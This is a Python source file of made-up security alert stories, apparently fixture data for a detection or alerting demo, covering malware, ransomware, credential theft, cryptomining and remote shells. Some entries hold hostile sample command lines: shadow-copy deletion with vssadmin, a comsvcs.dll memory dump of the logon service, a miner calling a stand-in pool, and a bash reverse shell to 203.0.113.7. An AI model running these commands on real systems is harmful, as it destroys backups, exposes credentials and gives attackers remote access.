"""Stories behind unified alerts."""

from typing import NamedTuple


class UnifiedStory(NamedTuple):
    """A kind of unified alert; `program` is a key of PROGRAMS, None where no process is to blame."""

    name: str
    description: str
    classification: str
    severity: str
    product: str
    surface: str
    analytics: tuple[str, str]
    systems: tuple[str, ...]
    program: str | None
    command: str = ""


_ALL = ("windows", "osx", "linux")

UNIFIED_STORIES = (
    UnifiedStory(
        "invoice_viewer.exe detected as Malware", "A file known as malicious was opened from the downloads",
        "MALWARE", "HIGH", "EDR", "ENDPOINT", ("Reputation", "STATIC"), ("windows",), "dropper",
        r'"C:\Users\Public\Downloads\invoice_viewer.exe" /open',
    ),
    UnifiedStory(
        "Shadow copies deleted", "Many files were encrypted after the shadow copies had been deleted",
        "RANSOMWARE", "CRITICAL", "EDR", "ENDPOINT", ("Behavioral", "DYNAMIC"), ("windows",), "vssadmin",
        "vssadmin.exe delete shadows /all /quiet",
    ),
    UnifiedStory(
        "Memory of the logon service read", "Credentials were read from memory",
        "HACKTOOL", "HIGH", "EDR", "IDENTITY", ("Behavioral", "DYNAMIC"), ("windows",), "rundll32",
        r"rundll32.exe comsvcs.dll, MiniDump 712 C:\Users\Public\d.dmp full",
    ),
    UnifiedStory(
        "Unsigned updater starts at login", "A hidden program put itself among the login items",
        "TROJAN", "MEDIUM", "EDR", "ENDPOINT", ("Reputation", "STATIC"), ("osx",), "mac_updater",
        "/Users/Shared/.cache/updater --background",
    ),
    UnifiedStory(
        "kworkerd detected as Coinminer", "A process uses all processors and talks to a mining pool",
        "CRYPTOMINER", "HIGH", "CWS", "CLOUD", ("Behavioral", "DYNAMIC"), ("linux",), "miner",
        "/tmp/.x/kworkerd -o pool.a8f3k2.example:4444",  # noqa: S108 - a made-up command line; nothing is written there
    ),
    UnifiedStory(
        "Shell in a container talks to the outside", "An interactive shell was opened from a web server's container",
        "REMOTE_SHELL", "CRITICAL", "CWS", "CLOUD", ("Behavioral", "DYNAMIC"), ("linux",), "bash",
        "bash -i >& /dev/tcp/203.0.113.7/4444 0>&1",
    ),
    UnifiedStory(
        "Password spraying", "Many accounts failed to log in from one address",
        "LATERAL_MOVEMENT", "MEDIUM", "Identity", "IDENTITY", ("Identity", "DYNAMIC"), _ALL, None,
    ),
    UnifiedStory(
        "Mail with a false login page opened", "A link led to a page that looks like the organisation's login",
        "PHISHING", "LOW", "EDR", "EMAIL", ("Reputation", "STATIC"), ("windows", "osx"), None,
    ),
    UnifiedStory(
        "Address of a control server asked for", "A name was looked up that belongs to a control server",
        "NETWORK", "LOW", "EDR", "NETWORK", ("Threat Intelligence", "STATIC"), _ALL, None,
    ),
    UnifiedStory(
        "Remote help installed", "A program that gives others access was installed",
        "APPLICATION_CONTROL", "INFO", "EDR", "ENDPOINT", ("Manual", "STATIC"), _ALL, None,
    ),
    UnifiedStory(
        "Unusual time of login", "",
        "UNKNOWN", "UNKNOWN", "Identity", "IDENTITY", ("Anomaly", "DYNAMIC"), _ALL, None,
    ),
)  # fmt: skip
